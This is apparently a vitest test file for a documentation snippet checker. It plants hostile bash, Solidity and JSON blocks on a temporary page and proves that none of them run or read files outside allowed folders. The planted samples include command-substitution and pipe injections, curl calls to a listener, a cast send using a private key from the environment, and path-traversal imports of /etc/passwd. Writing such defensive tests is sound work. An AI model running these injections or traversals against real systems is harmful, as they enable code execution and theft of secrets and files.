/**
 * A page is someone's pull request: the snippet checker must run none of its shell and read
 * none of its paths outside examples/ and node_modules/. This test plants hostile blocks on a
 * temporary page, then proves that nothing ran: no canary file appears, a local HTTP listener
 * gets no request, no file outside the repository is printed, and each block is reported with
 * its class and `page:line`. Its one plain `cast` block does run, on anvil, in a minimal
 * environment that a planted secret does not reach.
 */
import {existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync} from 'node:fs';
import {createServer, type Server} from 'node:http';
import {tmpdir} from 'node:os';
import {join} from 'node:path';
import {afterAll, beforeAll, describe, expect, it} from 'vitest';
import {pageBlocks} from '../../scripts/snippets/blocks';
import {commandEnv, runArgv} from '../../scripts/snippets/run';
import {verifyAll, type BlockReport} from '../../scripts/snippets/verify';

const SECRET = 'planted-secret-5f1c';
let dir: string;
let canaries: string;
let server: Server;
let port: number;
let hits = 0;
let reports: BlockReport[];

/** Each planted block, its first line on the page, and the class it must get. */
const planted = (c: string, url: string): [string, string][] => [
  [`cast chain-id --rpc-url https://node.mainnet.etherlink.com\ntouch ${c}/cast-touch\ncurl -s ${url}/A-uid-$(id -u)`, 'parsed only'],
  [`cast call $(touch ${c}/subst) --rpc-url https://node.mainnet.etherlink.com`, 'parsed only'],
  [`cast call \`touch ${c}/backticks\` --rpc-url https://node.mainnet.etherlink.com`, 'parsed only'],
  [`cast chain-id --rpc-url https://node.mainnet.etherlink.com; touch ${c}/semicolon`, 'parsed only'],
  [`cast chain-id --rpc-url https://node.mainnet.etherlink.com && touch ${c}/and`, 'parsed only'],
  [`cast chain-id --rpc-url https://node.mainnet.etherlink.com | sh -c 'touch ${c}/pipe'`, 'parsed only'],
  [`cast chain-id --rpc-url https://node.mainnet.etherlink.com > ${c}/redirect`, 'parsed only'],
  [`node -e "require('http').get('${url}/node')"`, 'parsed only'],
  [`git -c alias.x='!touch ${c}/git' x`, 'parsed only'],
  [`cast chain-id --rpc-url ${url}/cast`, 'parsed only'],
  [`curl -s -X POST ${url}/curl -H 'Content-Type: application/json' --data '{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":[]}'`, 'parsed only'],
  [`curl -s -K ${c}/curlrc -X POST https://node.mainnet.etherlink.com --data '{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":[]}'`, 'parsed only'],
  [`cast send 0x45Ff91b4bF16aC9907CF4A11436f9Ce61BE0650d --value 1 --private-key "$PLANTED_SECRET" --rpc-url https://node.mainnet.etherlink.com`, 'parsed only'],
  [`ETH_RPC_URL=${url}/env cast chain-id --rpc-url https://node.mainnet.etherlink.com`, 'parsed only'],
  [`cast call 0x45Ff91b4bF16aC9907CF4A11436f9Ce61BE0650d "f()" --trace --rpc-url https://node.mainnet.etherlink.com`, 'parsed only'],
  [`cast chain-id --rpc-url ${url}/twice --rpc-url https://node.mainnet.etherlink.com`, 'parsed only'],
  [`curl -s -X POST 127.0.0.1:${url.split(':').pop()}/bare --data '{"jsonrpc":"2.0","id":1,"method":"eth_chainId","params":[]}' https://node.mainnet.etherlink.com`, 'parsed only'],
  ['cast chain-id --rpc-url https://node.mainnet.etherlink.com', 'ran'],
];

beforeAll(async () => {
  process.env.PLANTED_SECRET = SECRET;
  server = createServer((_req, res) => {
    hits++;
    res.end('{}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  port = (server.address() as {port: number}).port;
  dir = mkdtempSync(join(tmpdir(), 'snippets-hostile-'));
  canaries = join(dir, 'canaries');
  const blocks = planted(canaries, `http://127.0.0.1:${port}`).map(([code]) => `\`\`\`bash\n${code}\n\`\`\``);
  blocks.push(
    '```solidity\n// SPDX-License-Identifier: MIT\npragma solidity ^0.8.0;\nimport "a/../../../../../../../etc/passwd";\ncontract A {}\n```',
    '```json file=examples/snippets/../../../../etc/hostname\n```',
  );
  const page = join(dir, 'hostile.mdx');
  writeFileSync(page, `# Hostile\n\n${blocks.join('\n\n')}\n`);
  reports = await verifyAll(await pageBlocks(page));
}, 180_000);

afterAll(() => {
  server?.close();
  delete process.env.PLANTED_SECRET;
  if (dir) rmSync(dir, {recursive: true, force: true});
});

describe('hostile blocks on a page', () => {
  it('run nothing: no canary file, no request to the listener', () => {
    expect(existsSync(canaries) ? readdirSync(canaries) : []).toEqual([]);
    expect(hits).toBe(0);
  });

  it('are each reported with its class, the reason, and page:line', () => {
    const shell = reports.filter((r) => r.block.lang === 'bash');
    const expected = planted(canaries, `http://127.0.0.1:${port}`);
    expect(shell.map((r) => r.kind)).toEqual(expected.map(([, kind]) => kind));
    for (const r of shell.slice(0, -1)) expect(r.detail, r.block.code).toMatch(/^not run: /);
    expect(shell.map((r) => r.block.where)).toEqual(shell.map((r) => expect.stringMatching(new RegExp(`hostile\\.mdx:${r.block.line}$`))));
    expect(shell[1].detail).toContain('command substitution');
    expect(shell[2].detail).toContain('backticks');
    expect(shell[5].detail).toContain('a pipe');
    expect(shell[12].detail).toContain('$PLANTED_SECRET');
    expect(shell.at(-1)!.problems).toEqual([]);
  });

  it('read no file outside examples/ and node_modules/, and print none of it', () => {
    const [solidity, json] = reports.filter((r) => r.block.lang !== 'bash');
    expect(solidity.problems.join()).toMatch(/not a file of node_modules\/ or examples\/: a\/\.\.\//);
    expect(json.problems).toEqual(['file=examples/snippets/../../../../etc/hostname is not a file of examples/ or node_modules/']);
    const secrets = [readFileSync('/etc/passwd', 'utf8').split('\n')[0], readFileSync('/etc/hostname', 'utf8').trim()];
    for (const r of reports) for (const text of secrets) expect(r.problems.join('\n')).not.toContain(text);
  });

  it('give a command that runs no inherited variable', async () => {
    expect(process.env.PLANTED_SECRET).toBe(SECRET);
    const run = await runArgv('env', [], {cwd: dir, env: commandEnv(dir, {HOME: dir})});
    expect(run.status).toBe(0);
    expect(run.stdout).not.toContain(SECRET);
    expect(run.stdout.trim().split('\n').map((l) => l.split('=')[0]).sort()).toEqual(['HOME', 'LANG', 'NO_COLOR', 'PATH']);
  });

  it('stop a command past its time or output limit', async () => {
    const env = commandEnv(dir);
    expect((await runArgv('sleep', ['5'], {cwd: dir, env, timeoutMs: 200})).stopped).toMatch(/longer than/);
    expect((await runArgv('yes', [], {cwd: dir, env})).stopped).toMatch(/more than 1000000 bytes/);
  });
});
